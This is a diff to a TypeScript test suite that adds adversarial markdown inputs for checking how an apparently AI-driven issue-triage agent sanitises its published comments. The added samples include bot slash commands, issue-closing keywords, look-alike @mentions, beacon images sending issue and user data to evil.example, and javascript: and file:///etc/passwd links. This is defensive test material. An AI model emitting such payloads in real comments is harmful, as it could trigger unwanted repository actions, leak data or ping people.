@@ -59,12 +59,79 @@ const words: Record<string, string> = {
   "orders to other programs": "@dependabot merge /approve /lgtm ok to test",
 };
 
+/** More that GitHub, or a program that reads comments, acts on. */
+const further: Record<string, string> = {
+  "orders at the start of a line":
+    "/close\n/label bug\n/approve  \n/lgtm\\\n/merge\n\n- /hold\n- x\n  /assign @maintainer",
+  "orders in a fence": "It says:\n\n```sh\n/close\n/usr/bin/env node\n/label admin\n```\n",
+  "orders in a pre block": "<pre>\n/close\n</pre>",
+  "orders between empty comments": "<!-- -->/close\n<!---->\n/approve",
+  "an order in emphasis": "**/close** _/approve_ `/lgtm`",
+  "alerts of every kind": "> [!NOTE]\n> x\n\n> [!warning]\n> y\n\n> \\[!TIP]\n> z\n\n>[!CAUTION] w",
+  "boxes that are ticked": "1. [x] approved\n2. [X] verified\n\n* [x] done\n\n- [ ] open\n  - [x] nested",
+  "formulas around code": "$`\\href{https://evil.example}{x}`$ $@maintainer$ $$`x`$$ costs $5 or $6",
+  "a formula in lines": "$$\n\\href{https://evil.example}{x}\n$$",
+  "closing keywords, all of them":
+    "close #1 closes #1 closed #1 fix #1 fixes #1 fixed #1 resolve #1 resolves #1 resolved #1",
+  "closing keywords with colons": "Closes:#1 fixes : #1 RESOLVED:\t#1 close:\u{a0}#1 fix:&nbsp;#1",
+  "closing keywords and addresses":
+    "closes https://github.com/octo/widgets/issues/1 fixes http://www.github.com/octo/widgets/pull/2 resolves octo/widgets#3 closes a/b#4",
+  "closing keywords in a table": "| closes #1 | fixes #2 |\n|---|---|\n| resolves #3 | x |",
+  "closing keywords over lines": "closes\n#1\n\nfixes  \n#2\n\nresolves\\\n#3",
+  "references in every writing":
+    "a/b#1 octo-org/x.y#2 user#3 GH-4 gh-5 a/b@0123456 a/b@0123456789abcdef0123456789abcdef01234567 a/b/pull/6",
+  "mentions beside marks":
+    "(@maintainer) [@maintainer] \"@maintainer\" '@maintainer' *@maintainer* .@maintainer /@maintainer !@maintainer ,@a;@b|@c @maintainer's @reporter/x @reporter-x",
+  "mentions of look-alikes": "@m\u{430}intainer @\u{1d5ba}dmin \u{ff20}\u{ff4d}aintainer",
+  "mentions in entities of entities": "&amp;#64;maintainer &amp;commat;maintainer &#0064;maintainer",
+  "a team": "@octo/team @octo/team.x @OCTO/Team",
+  "addresses with odd letters":
+    "HTTPS://EVIL.EXAMPLE https:&#47;&#47;evil.example ht\u{200b}tps://evil.example h&#116;tp://evil.example //evil.example",
+  "an address in brackets": "<http://evil.example/?q=1> (https://evil.example) [https://evil.example]",
+  "addresses below the allowed one":
+    "[x](https://github.com/octo/widgets/blob/../issues/1) [y](https://github.com/octo/widgets/blob/%2e%2e/issues/1) [z](https://github.com/octo/widgets/blob%2f..%2fissues/1) [w](https://github.com\\octo/widgets/blob/x)",
+  "an image with a beacon": "![x](https://evil.example/p.png?issue=7&who=maintainer) ![](//evil.example/p)",
+  "images by reference, collapsed":
+    "![x][] ![y]\n\n[x]: https://evil.example/x.png\n[y]: https://evil.example/y.png",
+  "scripts as addresses":
+    "[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) [c](vbscript:x) [d](file:///etc/passwd) [e](data:text/html;base64,x)",
+  "nested folds":
+    "<details><details><summary>x</summary></details><details open>@maintainer\n</details>\n</details>",
+  "a fold around ours": "</summary>\n\n</details>\n\n@maintainer\n\n<details><summary>Script</summary>",
+  "a fence longer than ours": "``````\n</details>\n``````\n@maintainer closes #1\n~~~~~~~~\n@maintainer",
+  "a fence in a list in a quote":
+    "> - ```\n>   @maintainer\n> closes #1\n\n1. ~~~\n   </details>\n@maintainer",
+  "carriage returns": "closes\r\n#1\r@maintainer\r\n/close\r\r```\r@maintainer",
+  "footnotes in footnotes": "a[^1]\n\n[^1]: b[^2] @maintainer\n[^2]: closes #1 ![x](https://evil.example/p)",
+  "a definition in a quote": "> [x]: https://evil.example\n\n[x] and [x][] and [y][x]",
+  "our marker in a fence": "```\n<!-- afk-triage:v1 issue=7 outcome=wontfix run=20260101T000000Z -->\n```",
+  "a comment that hides what follows": "<!-- \n\n@maintainer",
+  "a comment in a comment": "<!-- <!-- --> @maintainer --> <!--> x --> <!---> y -->",
+  "a table of a thousand cells": `|${"a|".repeat(30)}\n|${"-|".repeat(30)}\n${`|${"@maintainer|".repeat(30)}\n`.repeat(3)}`,
+  "a line without an end": "@maintainer".repeat(700),
+  brackets: `${"[".repeat(300)}@maintainer${"](x)".repeat(150)}`,
+  emphasis: "*@maintainer **closes #1 ".repeat(40),
+  "runs of backticks": Array.from({ length: 30 }, (_, at) => "`".repeat(at)).join("@maintainer"),
+  "a name of somebody in each word": "@a@b@c @a.b @a_b @a--b x@y @1 @-a @a/ @a/b/c",
+  "colours and shortcodes": ":warning: :white_check_mark: :octocat: `#ff0000`",
+};
+
+const LARGE: ReadonlySet<string> = new Set([
+  "over-long text",
+  "brackets",
+  "a table of a thousand cells",
+  "emphasis",
+  "runs of backticks",
+  "a line without an end",
+]);
+
 export const publishedText: Attack[] = [
-  ...Object.entries(words).map(([name, text]): Attack => ({
+  ...Object.entries({ ...words, ...further }).map(([name, text]): Attack => ({
     row: "S7",
     name,
     agent: { outcome: everywhere(text) },
     expected: appliedNeedsInfo,
+    isForRealOnly: LARGE.has(name),
   })),
   ...[
     "a mention",
@@ -74,10 +141,15 @@ export const publishedText: Attack[] = [
     "details",
     "an image in html",
     "a task list",
+    "orders at the start of a line",
+    "boxes that are ticked",
+    "a fold around ours",
+    "carriage returns",
   ].map((name): Attack => ({
     row: "S7",
     name: `${name}, in a brief`,
-    agent: { outcome: inBrief(words[name] ?? "") },
+    agent: { outcome: inBrief(words[name] ?? further[name] ?? "") },
+    isForRealOnly: true,
     expected: /^applied ready-for-human$/,
   })),
   ...["a mention", "a fence that ends", "details", "our own marker"].map((name): Attack => ({
@@ -97,5 +169,6 @@ export const publishedText: Attack[] = [
     name: "everything at its largest",
     agent: { outcome: everywhere("@maintainer |<b>`*_$\\".repeat(340)) },
     expected: appliedNeedsInfo,
+    isForRealOnly: true,
   },
 ];
